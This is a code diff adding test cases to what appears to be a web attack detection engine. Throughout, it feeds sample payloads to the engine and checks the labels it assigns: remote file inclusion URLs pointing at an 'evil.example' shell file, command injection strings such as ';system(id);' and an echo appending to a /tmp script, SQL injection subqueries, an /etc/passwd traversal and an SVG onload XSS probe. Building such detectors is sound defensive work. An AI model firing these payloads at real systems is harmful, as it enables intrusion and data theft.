@@ -2082,3 +2082,39 @@ t.test('review of the twenty-ninth round: a cut JSON text only where the cut is,
   t.ok(doc({ user: '(|(uid=*)(userPassword=*))' }).includes('ldapi'), 'under a user field')
   t.same(doc({ userFilter: '(&(objectClass=person)(uid=*))' }), [], "a directory's configured filter")
 })
+
+t.test('review of the twenty-ninth round, second part: remote inclusion by key, bare sinks as statements, echo to a file spliced or appended, a sub-query selecting a literal, runner expressions over lines, a command field\'s program outside system directories', async (t) => {
+  // a page's key needs a script's or a text's file; a key naming the file any remote file
+  for (const [name, v] of [['page', 'http://evil.example/shell.txt?'], ['page', 'http://evil.example/shell.txt#'], ['page', 'http://evil.example/x.php?x='], ['config[path]', 'http://192.0.2.7:8080/moclyxlwqyfjnp?'], ['include', 'http://evil.example/x?']] as const) {
+    t.ok(q(v, name).includes('path_traversal'), `${name}=${v}`)
+  }
+  for (const [name, v] of [['page', 'https://example.com/shop?'], ['source', 'https://www.google.com/?'], ['src', 'http://t.co/abc?'], ['doc', 'https://docs.example.com/guide.html?']] as const) {
+    t.notOk(q(v, name).includes('path_traversal'), `${name}=${v}`)
+  }
+  // a bare probe sink is a statement of its own, not an assignment's or a call's argument
+  for (const v of ['int r = system(id);', 'x = exec(id)', '(exec(id))', 'see (system(hostname)) here']) t.notOk(q(v).includes('rce'), v)
+  for (const v of ['|system(id)|', '@system(whoami);@', ';system(id);']) t.ok(q(v).includes('rce'), v)
+  // an echo to a file: appended, or in a value spliced into a command line
+  for (const v of ['cd build; echo done > status.txt', 'mkdir -p out && echo built > out/stamp', 'Sorry for the delay; echo chamber > reality #thoughts']) t.notOk(q(v).includes('rce'), v)
+  for (const v of ['; echo a > f', '" || echo a 1f4 >>esbq', 'x && echo 4d 5a >>/tmp/x.scr']) t.ok(q(v).includes('rce'), v)
+  // a number's arithmetic on a sub-query selecting a literal, a call or everything
+  for (const v of ['1-(select one from the list)', '3-(Select items from cart)']) t.notOk(q(v).includes('sqli'), v)
+  for (const v of ['1-(select 1 from dual)', '1+(select count(*) from users)', "(1-(select null from (select null) t where 'a'='a'))"]) t.ok(q(v).includes('sqli'), v)
+  // a runner's expression over lines only where it opens on a context's name or a call
+  const workflow = (title: string) => json({ jobs: { x: { 'runs-on': 'ubuntu-latest', steps: [{ name: 'build', run: 'make' }] } }, title })
+  t.ok(workflow("${{\n' or 1=1 --\n}}").includes('sqli'))
+  t.ok(workflow('${{\n../../../../etc/passwd\n}}').includes('path_traversal'))
+  t.same(workflow("${{\n  hashFiles(\n 'setup.cfg'\n )\n}}"), [])
+  // a command field's own program, not one in a system's or a temporary directory
+  for (const doc of [{ command: '/etc/cron.daily/backdoor.sh' }, { exec: '/var/tmp/x.sh' }, { build: '/root/bin/x' }]) t.ok(json(doc).includes('path_traversal'), JSON.stringify(doc))
+  t.same(json({ executable: '/var/vcap/data/packages/hello-world/serve.sh' }), [])
+})
+
+t.test('review of the twenty-ninth round: a JSON body cut inside a tag of its last string drops that tag, not what was closed before it', async (t) => {
+  const body = (text: string) => raw({ headers: { 'content-type': 'application/json' }, body: Buffer.from(text) })
+  const prose = 'Returns a list of prices for a service. For a full list of service codes, see the reference. '.repeat(200)
+  // cut at 16 KiB inside an API description's link, `<a href=\"https://docs…`
+  t.same(body(`{"version":"2.0","documentation":"${prose.slice(0, 16_300)}<a href=\\"https://docs.example.com/${'x'.repeat(400)}\\">more</a>."}`), [])
+  // a tag closed before the cut is read
+  t.ok(body(`{"a":1,"q":"<svg onload=alert(1)> ${'a'.repeat(17_000)}"}`).includes('xss'))
+})
